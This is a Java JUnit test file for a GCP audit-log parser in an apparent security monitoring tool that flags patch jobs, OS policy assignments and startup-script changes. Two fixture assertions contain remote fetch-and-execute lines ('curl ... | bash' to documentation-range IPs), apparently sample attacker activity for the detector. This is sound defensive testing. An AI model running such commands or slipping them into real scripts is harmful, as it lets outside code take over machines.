package io.runwatch.core.ingest.gcp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.core.JsonParseException;
import com.fasterxml.jackson.core.json.JsonReadFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import io.runwatch.core.ingest.ErrorKind;
import io.runwatch.core.ingest.FieldMapping;
import io.runwatch.core.ingest.IngestListener;
import io.runwatch.core.ingest.InvalidRecordException;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.Cloud;
import io.runwatch.core.model.Operation;
import io.runwatch.core.model.OperationCompletion;
import io.runwatch.core.model.Outcome;
import io.runwatch.core.model.Principal;
import io.runwatch.core.model.PrincipalKind;
import io.runwatch.core.model.RecordRef;
import io.runwatch.core.model.VmRef;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class GcpAuditLogParserTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final RecordRef WHERE = new RecordRef("test", 0, -1);
  private static final List<String> RELEVANT =
      List.of(
          "patchjob-execute.json",
          "patchjob-denied.json",
          "patchdeployment-create.json",
          "ospolicyassignment-create.json",
          "setmetadata-startup-script.json",
          "setmetadata-startup-script-first.json",
          "setmetadata-startup-script-last.json",
          "setcommoninstancemetadata-startup-script.json",
          "instances-insert-startup-script.json",
          "pubsub-push-envelope.json",
          "cloudevent-messagepublished.json",
          "cloudevent-auditlog-written.json");
  private static final String DEMO_KEY =
      "//iam.googleapis.com/projects/demo-project/serviceAccounts/"
          + "terraform@demo-project.iam.gserviceaccount.com/keys/"
          + "4a1b9c2d7e3f8a5b6c0d1e2f3a4b5c6d7e8f9a0b";

  private final GcpAuditLogParser parser = new GcpAuditLogParser();

  @Nested
  class OsConfig {
    @Test
    void executePatchJob() throws Exception {
      AdminCommand c = single("patchjob-execute.json");

      assertThat(c.cloud()).isEqualTo(Cloud.GCP);
      assertThat(c.operation()).isEqualTo(Operation.PATCH_JOB);
      assertThat(c.eventName())
          .isEqualTo("google.cloud.osconfig.v1.OsConfigService.ExecutePatchJob");
      assertThat(c.account()).isEqualTo("demo-project");
      assertThat(c.region()).isNull();
      assertThat(c.principal())
          .isEqualTo(
              new Principal(
                  "alice@example.com", "alice@example.com", PrincipalKind.HUMAN, null, null));
      assertThat(c.sourceIp()).isEqualTo("203.0.113.24");
      assertThat(c.userAgent())
          .startsWith("google-cloud-sdk gcloud/462.0.1 command/gcloud.compute.os-config");
      assertThat(c.commandId())
          .isEqualTo("projects/demo-project/patchJobs/3c1f8d52-6a7e-4b09-9e51-0d2f4c8b7a16");
      assertThat(c.document()).isEqualTo("hotfix-openssl");
      assertThat(c.targetSelector())
          .isEqualTo(
              "instances=zones/us-central1-a/instances/web-1,zones/us-central1-b/instances/web-2");
      assertThat(c.targets())
          .containsExactly(
              new VmRef("zones/us-central1-a/instances/web-1", "web-1"),
              new VmRef("zones/us-central1-b/instances/web-2", "web-2"));
      assertThat(c.targetCount()).isNull();
      assertThat(c.content())
          .isEqualTo(
              "preStep linux: gs://ops-scripts-demo/pre/stop-app.sh#1709546400123456 (SHELL)\n"
                  + "postStep windows: C:\\ops\\post.ps1 (POWERSHELL)");
      assertThat(c.contentSha256()).isNull();
      assertThat(c.outcome()).isEqualTo(Outcome.SUCCEEDED);
      assertThat(c.errorCode()).isNull();
      assertThat(c.time()).isEqualTo(Instant.parse("2025-03-04T10:15:02.095117Z"));
      assertThat(c.eventId()).isEqualTo("1x9k2lme3ab7");
      assertThat(c.foldKey()).isNull();
      assertThat(c.origin()).isEqualTo(WHERE);
    }

    @Test
    void deniedPatchJobFromInsideAVm() throws Exception {
      AdminCommand c = single("patchjob-denied.json");

      assertThat(c.operation()).isEqualTo(Operation.PATCH_JOB);
      assertThat(c.outcome()).isEqualTo(Outcome.DENIED);
      assertThat(c.errorCode()).isEqualTo("PERMISSION_DENIED");
      assertThat(c.principal().id()).isEqualTo("app-runner@demo-project.iam.gserviceaccount.com");
      assertThat(c.principal().kind()).isEqualTo(PrincipalKind.INSTANCE_IDENTITY);
      assertThat(c.sourceIp()).isEqualTo("10.128.0.7");
      assertThat(c.userAgent()).isEqualTo("python-requests/2.31.0");
      assertThat(c.targetSelector()).isEqualTo("all");
      assertThat(c.targets()).isEmpty();
      // Denied calls have no response: no job was created, so there is nothing to join on.
      assertThat(c.commandId()).isNull();
      assertThat(c.document()).isEqualTo("patch reboot=NEVER preStep");
      assertThat(c.content())
          .isEqualTo("preStep linux: gs://tmp-bkt-5c7e19/s.sh#1709550163000001 (SHELL)");
      assertThat(c.eventId()).isEqualTo("k3d1a9e2b8f4");
    }

    @Test
    void createPatchDeploymentThroughAnImpersonationChain() throws Exception {
      AdminCommand c = single("patchdeployment-create.json");

      assertThat(c.operation()).isEqualTo(Operation.PATCH_DEPLOYMENT);
      assertThat(c.eventName())
          .isEqualTo("google.cloud.osconfig.v1.OsConfigService.CreatePatchDeployment");
      assertThat(c.principal())
          .isEqualTo(
              new Principal(
                  "patch-admin@demo-project.iam.gserviceaccount.com",
                  "patch-admin@demo-project.iam.gserviceaccount.com",
                  PrincipalKind.SERVICE_ACCOUNT,
                  "alice@example.com > ci-builder@demo-project.iam.gserviceaccount.com",
                  null));
      assertThat(c.commandId()).isEqualTo("projects/demo-project/patchDeployments/weekly-prod");
      assertThat(c.document()).isEqualTo("projects/demo-project/patchDeployments/weekly-prod");
      assertThat(c.targetSelector()).isEqualTo("zones=us-central1-a; labels=(app=web,env=prod)");
      assertThat(c.targets()).isEmpty();
      assertThat(c.content())
          .isEqualTo("postStep linux: gs://ops-scripts-demo/post/restart-app.sh#1709627000000001");
      assertThat(c.outcome()).isEqualTo(Outcome.SUCCEEDED);
      assertThat(c.sourceIp()).isEqualTo("198.51.100.14");
      assertThat(c.time()).isEqualTo(Instant.parse("2025-03-05T08:30:11.389554Z"));
    }

    @Test
    void createOsPolicyAssignmentCarriesItsScripts() throws Exception {
      AdminCommand c = single("ospolicyassignment-create.json");

      String name =
          "projects/demo-project/locations/us-central1-a/osPolicyAssignments/inventory-agent";
      assertThat(c.operation()).isEqualTo(Operation.OS_POLICY_ASSIGNMENT);
      assertThat(c.document()).isEqualTo(name);
      assertThat(c.commandId()).isEqualTo(name);
      assertThat(c.region()).isEqualTo("us-central1-a");
      assertThat(c.targetSelector()).isEqualTo("include=(env=prod); os=debian:12");
      assertThat(c.content())
          .isEqualTo(
              "# collect/run-collector validate (SHELL)\n"
                  + "test -f /var/run/collector.done && exit 100 || exit 101\n"
                  + "# collect/run-collector enforce (SHELL)\n"
                  + "curl -fsS https://203.0.113.9/c.sh | bash\n"
                  + "touch /var/run/collector.done\n"
                  + "exit 100");
      assertThat(c.principal())
          .isEqualTo(
              new Principal(
                  "terraform@demo-project.iam.gserviceaccount.com",
                  "terraform@demo-project.iam.gserviceaccount.com",
                  PrincipalKind.SERVICE_ACCOUNT,
                  null,
                  DEMO_KEY));
      // The long-running create logs its start here; the rollout's end is another entry.
      assertThat(c.outcome()).isEqualTo(Outcome.IN_PROGRESS);
      assertThat(c.foldKey())
          .isEqualTo("gcp:" + name + "/operations/0f4e7a1c-52d8-4b6e-a3f9-8c2d1e0b7a64");
    }

    @Test
    void updateOsPolicyAssignmentInV1alphaNamesTheAssignmentInTheRequest() throws Exception {
      ObjectNode entry = fixture("ospolicyassignment-create.json");
      ObjectNode payload = (ObjectNode) entry.get("protoPayload");
      payload.put(
          "methodName",
          "google.cloud.osconfig.v1alpha.OsConfigZonalService.UpdateOSPolicyAssignment");
      ObjectNode request = (ObjectNode) payload.get("request");
      request.remove(List.of("parent", "osPolicyAssignmentId"));
      ((ObjectNode) request.get("osPolicyAssignment"))
          .put("name", "projects/demo-project/locations/us-central1-a/osPolicyAssignments/renamed");
      ((ObjectNode) request.get("osPolicyAssignment").get("instanceFilter")).put("all", true);

      AdminCommand c = single(entry);

      assertThat(c.operation()).isEqualTo(Operation.OS_POLICY_ASSIGNMENT);
      assertThat(c.document())
          .isEqualTo("projects/demo-project/locations/us-central1-a/osPolicyAssignments/renamed");
      assertThat(c.targetSelector()).isEqualTo("all");
    }

    @Test
    void snakeCaseRequestBodiesAreReadToo() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ObjectNode request = (ObjectNode) entry.get("protoPayload").get("request");
      request.set("instance_filter", request.remove("instanceFilter"));
      request.set("display_name", request.remove("displayName"));
      ((ObjectNode) entry.get("protoPayload").get("response")).remove("displayName");

      AdminCommand c = single(entry);

      assertThat(c.document()).isEqualTo("hotfix-openssl");
      assertThat(c.targets()).hasSize(2);
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "google.cloud.osconfig.v1.OsConfigService.GetPatchJob",
          "google.cloud.osconfig.v1.OsConfigService.CancelPatchJob",
          "google.cloud.osconfig.v1.OsConfigZonalService.DeleteOSPolicyAssignment",
          "google.cloud.osconfig.v1.OsConfigService.ExecutePatchJobs",
          "v1.compute.instances.setTags"
        })
    void otherMethodsAreNotRelevant(String methodName) throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.get("protoPayload")).put("methodName", methodName);

      assertThat(parse(entry)).isEmpty();
    }

    @Test
    void v1betaPatchJobIsAPatchJob() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.get("protoPayload"))
          .put("methodName", "google.cloud.osconfig.v1beta.OsConfigService.ExecutePatchJob");

      assertThat(single(entry).operation()).isEqualTo(Operation.PATCH_JOB);
    }
  }

  @Nested
  class ComputeMetadata {
    @Test
    void setMetadataOnWindowsStartupScript() throws Exception {
      AdminCommand c = single("setmetadata-startup-script.json");

      assertThat(c.operation()).isEqualTo(Operation.STARTUP_SCRIPT_CHANGE);
      assertThat(c.eventName()).isEqualTo("v1.compute.instances.setMetadata");
      assertThat(c.account()).isEqualTo("demo-project");
      assertThat(c.region()).isEqualTo("europe-west1-b");
      assertThat(c.document()).isEqualTo("windows-startup-script-ps1");
      assertThat(c.targets()).containsExactly(new VmRef("4417583921176620183", "win-build-01"));
      assertThat(c.targetSelector()).isNull();
      assertThat(c.principal().kind()).isEqualTo(PrincipalKind.HUMAN);
      assertThat(c.sourceIp()).isEqualTo("198.51.100.77");
      // Compute redacts metadata values from setMetadata requests.
      assertThat(c.content()).isNull();
      assertThat(c.contentSha256()).isNull();
      assertThat(c.commandId()).isNull();
      assertThat(c.foldKey()).isNull();
      assertThat(c.outcome()).isEqualTo(Outcome.SUCCEEDED);
      assertThat(c.eventId()).isEqualTo("-w4k2j8e1pq9");
    }

    @Test
    void startAndEndOfOneSetMetadataFoldTogether() throws Exception {
      AdminCommand first = single("setmetadata-startup-script-first.json");
      AdminCommand last = single("setmetadata-startup-script-last.json");

      String operation = "operation-1741363204117-62fb9c0a3d5e1-7c2e4f8a-1b9d3e60";
      assertThat(first.foldKey()).isEqualTo("gcp:" + operation).isEqualTo(last.foldKey());
      assertThat(first.commandId()).isEqualTo(operation).isEqualTo(last.commandId());
      assertThat(first.outcome()).isEqualTo(Outcome.IN_PROGRESS);
      assertThat(last.outcome()).isEqualTo(Outcome.SUCCEEDED);
      assertThat(first.eventId()).isNotEqualTo(last.eventId());
      VmRef vm = new VmRef("7283940152637481920", "db-replica-2");
      assertThat(first.targets()).containsExactly(vm);
      assertThat(last.targets()).containsExactly(vm);
      assertThat(first.document()).isEqualTo("startup-script").isEqualTo(last.document());
      assertThat(first.sourceIp()).isEqualTo("192.0.2.140");
      assertThat(last.sourceIp()).isNull();
      assertThat(first.region()).isEqualTo("us-central1-f");
      assertThat(first.time()).isEqualTo(Instant.parse("2025-03-07T16:00:04.247311Z"));
      assertThat(last.time()).isEqualTo(Instant.parse("2025-03-07T16:00:06.918204Z"));
    }

    @Test
    void projectMetadataReachesEveryVmOfTheProject() throws Exception {
      AdminCommand c = single("setcommoninstancemetadata-startup-script.json");

      assertThat(c.operation()).isEqualTo(Operation.STARTUP_SCRIPT_CHANGE);
      assertThat(c.eventName()).isEqualTo("v1.compute.projects.setCommonInstanceMetadata");
      // gce_project entries label the project by number; the resource name has its id.
      assertThat(c.account()).isEqualTo("184729364501");
      assertThat(c.targetSelector()).isEqualTo("project:demo-project");
      assertThat(c.targets()).isEmpty();
      assertThat(c.document()).isEqualTo("startup-script-url");
      assertThat(c.region()).isEqualTo("global");
      assertThat(c.foldKey())
          .isEqualTo("gcp:operation-1741449608261-62fcdd31b0a4f-0e6b2d9c-5a7f1c38");
      assertThat(c.outcome()).isEqualTo(Outcome.IN_PROGRESS);
    }

    @Test
    void instanceCreatedWithAStartupScriptByAVmIdentity() throws Exception {
      AdminCommand c = single("instances-insert-startup-script.json");

      assertThat(c.operation()).isEqualTo(Operation.STARTUP_SCRIPT_CHANGE);
      assertThat(c.eventName()).isEqualTo("beta.compute.instances.insert");
      assertThat(c.targets()).containsExactly(new VmRef("6120045398713360917", "batch-worker-7"));
      assertThat(c.document()).isEqualTo("startup-script");
      assertThat(c.content())
          .isEqualTo("#!/bin/bash\ncurl -fsSL http://198.51.100.23/stage2 | bash\n");
      assertThat(c.contentSha256())
          .isEqualTo("b6fb2fc9bdba5fa76880ba3b1e4994426d1d3b95365352e176cc6138ae85b538");
      assertThat(c.principal().kind()).isEqualTo(PrincipalKind.INSTANCE_IDENTITY);
      assertThat(c.region()).isEqualTo("us-east1-b");
      assertThat(c.outcome()).isEqualTo(Outcome.IN_PROGRESS);
    }

    @Test
    void instanceCreatedWithoutScriptsIsNotRelevant() throws Exception {
      ObjectNode entry = fixture("instances-insert-startup-script.json");
      ((ObjectNode) entry.get("protoPayload").get("request")).remove("metadata");

      assertThat(parse(entry)).isEmpty();
    }

    @Test
    void sshKeysOnlyIsNotACommand() throws Exception {
      // The Stratus sample (strict copy) has no timestamp: irrelevance is decided before
      // required fields are checked, so it is skipped, not an error.
      assertThat(parse(fixture("setmetadata-sshkeys-strict.json"))).isEmpty();
    }

    @Test
    void keysAreComparedOnTheirFirstToken() throws Exception {
      ObjectNode entry = fixture("setmetadata-sshkeys-strict.json");
      entry.put("timestamp", "2025-03-07T16:00:04Z");
      ArrayNode added =
          (ArrayNode) entry.at("/protoPayload/metadata/instanceMetadataDelta/addedMetadataKeys");
      added.removeAll().add("startup-script #!/bin/sh ...");

      AdminCommand c = single(entry);

      assertThat(c.document()).isEqualTo("startup-script");
      // No instance_id label: the resource name identifies the VM.
      assertThat(c.targets())
          .containsExactly(
              new VmRef(
                  "projects/my-project-id/zones/my-zone-id/instances/my-instance-id",
                  "my-instance-id"));
      assertThat(c.account()).isEqualTo("my-project-id");
      assertThat(c.region()).isEqualTo("my-zone-id");
    }

    @ParameterizedTest
    @CsvSource({
      "startup-script,true",
      "startup-script-url,true",
      "windows-startup-script-cmd,true",
      "windows-startup-script-bat,true",
      "windows-startup-script-url,true",
      "sysprep-specialize-script-ps1,true",
      "shutdown-script,true",
      "startup-scripts,false",
      "my-startup-script,false",
      "ssh-keys,false",
      "windows-keys,false",
      "serial-port-enable,false"
    })
    void scriptKeys(String key, boolean isScript) {
      assertThat(StartupScriptKeys.isScriptKey(key)).isEqualTo(isScript);
    }

    @Test
    void deletedScriptKeysRunNothing() throws Exception {
      ObjectNode entry = fixture("setmetadata-startup-script-last.json");
      ObjectNode delta = (ObjectNode) entry.at("/protoPayload/metadata/instanceMetadataDelta");
      delta.set("deletedMetadataKeys", delta.remove("addedMetadataKeys"));
      ((ObjectNode) entry.at("/protoPayload/request")).remove("Metadata Keys Added");

      assertThat(parse(entry)).isEmpty();
    }
  }

  @Nested
  class Envelopes {
    @ParameterizedTest
    @CsvSource({
      "pubsub-push-envelope.json,patchjob-execute.json",
      "cloudevent-messagepublished.json,instances-insert-startup-script.json",
      "cloudevent-auditlog-written.json,ospolicyassignment-create.json"
    })
    void envelopeGivesTheSameCommandAsTheBareEntry(String envelope, String bare) throws Exception {
      assertThat(single(envelope)).isEqualTo(single(bare));
    }

    @Test
    void pushEnvelopeWithBadBase64() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ((ObjectNode) push.get("message")).put("data", "eyJwcm90b1BheWxvYWQi*not base64*");

      InvalidRecordException e = invalid(push);

      assertThat(e.kind()).isEqualTo(ErrorKind.INVALID_FIELD);
      assertThat(e.field()).isEqualTo("message.data");
      assertThat(e.getMessage()).contains("base64");
    }

    @Test
    void pushEnvelopeWithNonJsonInside() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ((ObjectNode) push.get("message")).put("data", base64("{\"protoPayload\": {"));

      InvalidRecordException e = invalid(push);

      assertThat(e.kind()).isEqualTo(ErrorKind.INVALID_FIELD);
      assertThat(e.field()).isEqualTo("message.data");
    }

    @Test
    void pushEnvelopeWithTwoEntriesInside() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ((ObjectNode) push.get("message")).put("data", base64("{\"protoPayload\":{}} {}"));

      assertThat(invalid(push).field()).isEqualTo("message.data");
    }

    @Test
    void pushEnvelopeWithoutData() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ((ObjectNode) push.get("message")).remove("data");

      InvalidRecordException e = invalid(push);

      assertThat(e.kind()).isEqualTo(ErrorKind.MISSING_FIELD);
      assertThat(e.field()).isEqualTo("message.data");
    }

    @Test
    void messagePublishedCloudEventWithBadBase64() throws Exception {
      ObjectNode event = fixture("cloudevent-messagepublished.json");
      ((ObjectNode) event.at("/data/message")).put("data", "%%%");

      InvalidRecordException e = invalid(event);

      assertThat(e.kind()).isEqualTo(ErrorKind.INVALID_FIELD);
      assertThat(e.field()).isEqualTo("data.message.data");
    }

    @Test
    void urlSafeBase64IsAccepted() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      byte[] entry = resource("patchjob-execute.json");
      ((ObjectNode) push.get("message"))
          .put("data", Base64.getUrlEncoder().withoutPadding().encodeToString(entry));

      assertThat(single(push)).isEqualTo(single("patchjob-execute.json"));
    }

    @Test
    void envelopeAroundSomethingElseIsNotRelevant() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ((ObjectNode) push.get("message")).put("data", base64("{\"textPayload\":\"hello\"}"));

      assertThat(parse(push)).isEmpty();
    }

    @Test
    void pulledMessageSavedByAnAnalyst() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ObjectNode pulled = JSON.createObjectNode();
      pulled.put(
          "ackId",
          "UAYWLF1GSFE3GQhoUQ5PXiM_NSAoRRIJB08CKF15MU0sQVhwaFENGXJ9YHxrUxsDV0ECel1RGQdoTm11H4GglfRjQ");
      pulled.set("message", push.get("message"));
      String latin1 = pulled.toString();

      assertThat(parser.mayBeRelevant(latin1)).isTrue();
      assertThat(parser.accepts(pulled)).isTrue();
      assertThat(single(pulled)).isEqualTo(single("patchjob-execute.json"));
    }

    @Test
    void forwarderThatAlreadyDecodedTheData() throws Exception {
      ObjectNode push = fixture("pubsub-push-envelope.json");
      ((ObjectNode) push.get("message")).set("data", fixture("patchjob-execute.json"));

      assertThat(single(push)).isEqualTo(single("patchjob-execute.json"));
    }
  }

  @Nested
  class Outcomes {
    @Test
    void missingTimestampIsAMissingField() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      entry.remove("timestamp");

      InvalidRecordException e = invalid(entry);

      assertThat(e.kind()).isEqualTo(ErrorKind.MISSING_FIELD);
      assertThat(e.field()).isEqualTo("timestamp");
    }

    @Test
    void unparseableTimestampIsAnInvalidField() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      entry.put("timestamp", "yesterday");

      InvalidRecordException e = invalid(entry);

      assertThat(e.kind()).isEqualTo(ErrorKind.INVALID_FIELD);
      assertThat(e.field()).isEqualTo("timestamp");
    }

    @Test
    void otherErrorCodesFail() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.get("protoPayload"))
          .set("status", JSON.readTree("{\"code\": 3, \"message\": \"bad filter\"}"));

      AdminCommand c = single(entry);

      assertThat(c.outcome()).isEqualTo(Outcome.FAILED);
      assertThat(c.errorCode()).isEqualTo("INVALID_ARGUMENT");
    }

    @Test
    void unauthenticatedIsDenied() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.get("protoPayload")).set("status", JSON.readTree("{\"code\": \"16\"}"));

      AdminCommand c = single(entry);

      assertThat(c.outcome()).isEqualTo(Outcome.DENIED);
      assertThat(c.errorCode()).isEqualTo("UNAUTHENTICATED");
    }

    @Test
    void refusedGrantIsDeniedEvenWithoutStatus() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.at("/protoPayload/authorizationInfo/0")).put("granted", false);

      AdminCommand c = single(entry);

      assertThat(c.outcome()).isEqualTo(Outcome.DENIED);
      assertThat(c.errorCode()).isNull();
    }

    @Test
    void firstAndLastInOneEntryIsDone() throws Exception {
      ObjectNode entry = fixture("setmetadata-startup-script-first.json");
      ((ObjectNode) entry.get("operation")).set("last", BooleanNode.TRUE);

      assertThat(single(entry).outcome()).isEqualTo(Outcome.SUCCEEDED);
    }

    @Test
    void partsOfASplitEntryFoldTogether() throws Exception {
      ObjectNode entry = fixture("setmetadata-startup-script.json");
      entry.set("split", JSON.readTree("{\"uid\": \"a1b2c3\", \"index\": 1, \"totalSplits\": 2}"));

      assertThat(single(entry).foldKey()).isEqualTo("gcp:split:a1b2c3");
    }

    @Test
    void unknownCodeKeepsItsNumber() {
      assertThat(GcpOutcome.codeName(42)).isEqualTo("CODE_42");
    }
  }

  @Nested
  class Principals {
    @ParameterizedTest
    @CsvSource({
      "alice@example.com,false,HUMAN",
      "alice@example.com,true,HUMAN",
      "runner@demo-project.iam.gserviceaccount.com,false,SERVICE_ACCOUNT",
      "runner@demo-project.iam.gserviceaccount.com,true,INSTANCE_IDENTITY",
      "184729364501-compute@developer.gserviceaccount.com,true,INSTANCE_IDENTITY",
      "demo-project@appspot.gserviceaccount.com,false,SERVICE_ACCOUNT",
      "service-184729364501@gcp-sa-osconfig.iam.gserviceaccount.com,true,CLOUD_SERVICE",
      "service-184729364501@compute-system.iam.gserviceaccount.com,false,CLOUD_SERVICE",
      "184729364501@cloudservices.gserviceaccount.com,true,CLOUD_SERVICE",
      "system:gce-agent,false,CLOUD_SERVICE",
      "principal://iam.googleapis.com/locations/global/workforcePools/p/subject/alice,false,HUMAN",
      "principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/gh/subject/x,false,SERVICE_ACCOUNT",
      "not-an-identity,false,UNKNOWN"
    })
    void kinds(String id, boolean fromVpc, PrincipalKind kind) {
      assertThat(GcpPrincipals.kindOf(id, fromVpc)).isEqualTo(kind);
    }

    @Test
    void absentPrincipalIsUnknown() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.get("protoPayload")).remove("authenticationInfo");

      assertThat(single(entry).principal()).isEqualTo(Principal.UNKNOWN);
    }

    @Test
    void redactedEmailFallsBackToTheSubject() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ((ObjectNode) entry.at("/protoPayload/authenticationInfo")).remove("principalEmail");

      // Same id as when the e-mail is present, so baselines see one principal.
      assertThat(single(entry).principal().id()).isEqualTo("alice@example.com");
    }

    @Test
    void federatedSubjectWithoutEmail() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ObjectNode auth = (ObjectNode) entry.at("/protoPayload/authenticationInfo");
      auth.remove("principalEmail");
      String subject =
          "principal://iam.googleapis.com/locations/global/workforcePools/corp/subject/alice";
      auth.put("principalSubject", subject);

      Principal p = single(entry).principal();
      assertThat(p.id()).isEqualTo(subject);
      assertThat(p.kind()).isEqualTo(PrincipalKind.HUMAN);
    }

    @Test
    void callerIpRenamedByAnExportIsStillRead() throws Exception {
      ObjectNode entry = fixture("patchjob-execute.json");
      ObjectNode meta = (ObjectNode) entry.at("/protoPayload/requestMetadata");
      meta.set("callerIP", meta.remove("callerIp"));

      assertThat(single(entry).sourceIp()).isEqualTo("203.0.113.24");
    }
  }

  @Nested
  class Prefilter {
    @Test
    void everyRelevantFixturePassesThePrefilter() {
      for (String name : RELEVANT) {
        String latin1 = new String(resource(name), StandardCharsets.ISO_8859_1);
        assertThat(parser.mayBeRelevant(latin1)).as(name).isTrue();
      }
    }

    @Test
    void everyFixtureIsAccepted() {
      List<String> all = new ArrayList<>(RELEVANT);
      all.add("setmetadata-sshkeys-strict.json");
      for (String name : all) {
        assertThat(parser.accepts(fixture(name))).as(name).isTrue();
      }
    }

    @Test
    void unrelatedAuditEntryFailsThePrefilter() {
      String entry =
          "{\"protoPayload\":{\"serviceName\":\"pubsub.googleapis.com\","
              + "\"methodName\":\"google.pubsub.v1.Publisher.CreateTopic\"},"
              + "\"timestamp\":\"2020-06-30T16:14:47.593398572Z\"}";
      assertThat(parser.mayBeRelevant(entry)).isFalse();
    }

    @Test
    void otherCloudsAreNotAccepted() throws Exception {
      assertThat(parser.accepts(JSON.readTree("{\"eventSource\":\"ssm.amazonaws.com\"}")))
          .isFalse();
      assertThat(parser.accepts(JSON.readTree("{\"operationName\":\"MICROSOFT.COMPUTE/X\"}")))
          .isFalse();
      assertThat(parser.accepts(JSON.readTree("{\"type\":\"com.example.other\",\"data\":{}}")))
          .isFalse();
      assertThat(parser.accepts(JSON.readTree("[1,2]"))).isFalse();
    }
  }

  @Nested
  class Fixtures {
    @Test
    void publishedSampleIsNotStrictJsonButItsStrictCopyIsFaithful() throws Exception {
      byte[] published = resource("setmetadata-sshkeys-stratus.jsonc");
      assertThatThrownBy(() -> JSON.readTree(published)).isInstanceOf(JsonParseException.class);

      ObjectMapper lenient =
          JsonMapper.builder().enable(JsonReadFeature.ALLOW_TRAILING_COMMA).build();
      assertThat(lenient.readTree(published)).isEqualTo(fixture("setmetadata-sshkeys-strict.json"));
    }

    @Test
    void fieldTableDocumentsEveryFieldTheParserFills() {
      List<String> documented = parser.fieldTable().stream().map(FieldMapping::modelField).toList();
      assertThat(documented)
          .contains(
              "cloud",
              "account",
              "region",
              "operation",
              "eventName",
              "principal.id",
              "principal.kind",
              "principal.issuer",
              "principal.credentialId",
              "sourceIp",
              "userAgent",
              "targets",
              "targetSelector",
              "commandId",
              "document",
              "content",
              "contentSha256",
              "outcome",
              "errorCode",
              "time",
              "eventId",
              "foldKey")
          .doesNotHaveDuplicates();
      assertThat(parser.fieldTable()).allSatisfy(f -> assertThat(f.whenAbsent()).isNotBlank());
      assertThat(parser.cloud()).isEqualTo(Cloud.GCP);
    }

    /**
     * Any damage to a relevant record ends in a command, a skip or a typed error: removes each
     * field in turn, and replaces each value with a value of the wrong type.
     */
    @Test
    void damagedRecordsEndInACommandASkipOrATypedError() {
      int variants = 0;
      for (String name : RELEVANT) {
        ObjectNode original = fixture(name);
        for (String pointer : pointers(original, "")) {
          for (int damage = 0; damage < 3; damage++) {
            ObjectNode copy = original.deepCopy();
            damage(copy, pointer, damage);
            try {
              parser.parse(copy, WHERE, ignored -> {});
            } catch (InvalidRecordException expected) {
              assertThat(expected.kind()).isNotNull();
            }
            variants++;
          }
        }
      }
      assertThat(variants).isGreaterThan(1000);
    }
  }

  private static void damage(ObjectNode root, String pointer, int how) {
    int slash = pointer.lastIndexOf('/');
    JsonNode parent = root.at(pointer.substring(0, slash));
    String last = pointer.substring(slash + 1);
    if (parent instanceof ObjectNode o) {
      switch (how) {
        case 0 -> o.remove(last);
        case 1 -> o.set(last, JSON.createArrayNode().add(1));
        default -> o.set(last, TextNode.valueOf(""));
      }
    } else if (parent instanceof ArrayNode a) {
      int i = Integer.parseInt(last);
      switch (how) {
        case 0 -> a.remove(i);
        case 1 -> a.set(i, JSON.createObjectNode());
        default -> a.set(i, BooleanNode.FALSE);
      }
    }
  }

  private static List<String> pointers(JsonNode node, String at) {
    List<String> out = new ArrayList<>();
    if (node.isObject()) {
      for (Iterator<Map.Entry<String, JsonNode>> it = node.properties().iterator();
          it.hasNext(); ) {
        Map.Entry<String, JsonNode> e = it.next();
        String p = at + "/" + e.getKey().replace("~", "~0").replace("/", "~1");
        out.add(p);
        out.addAll(pointers(e.getValue(), p));
      }
    } else if (node.isArray()) {
      for (int i = 0; i < node.size(); i++) {
        String p = at + "/" + i;
        out.add(p);
        out.addAll(pointers(node.get(i), p));
      }
    }
    return out;
  }

  private AdminCommand single(String name) throws InvalidRecordException {
    return single(fixture(name));
  }

  private AdminCommand single(JsonNode record) throws InvalidRecordException {
    List<AdminCommand> commands = parse(record);
    assertThat(commands).hasSize(1);
    return commands.get(0);
  }

  private List<AdminCommand> parse(JsonNode record) throws InvalidRecordException {
    List<AdminCommand> commands = new ArrayList<>();
    List<OperationCompletion> completions = new ArrayList<>();
    IngestListener listener =
        new IngestListener() {
          @Override
          public void command(AdminCommand command) {
            commands.add(command);
          }

          @Override
          public void completion(OperationCompletion completion) {
            completions.add(completion);
          }
        };
    int emitted = parser.parse(record, WHERE, listener);
    assertThat(emitted).isEqualTo(commands.size() + completions.size());
    return commands;
  }

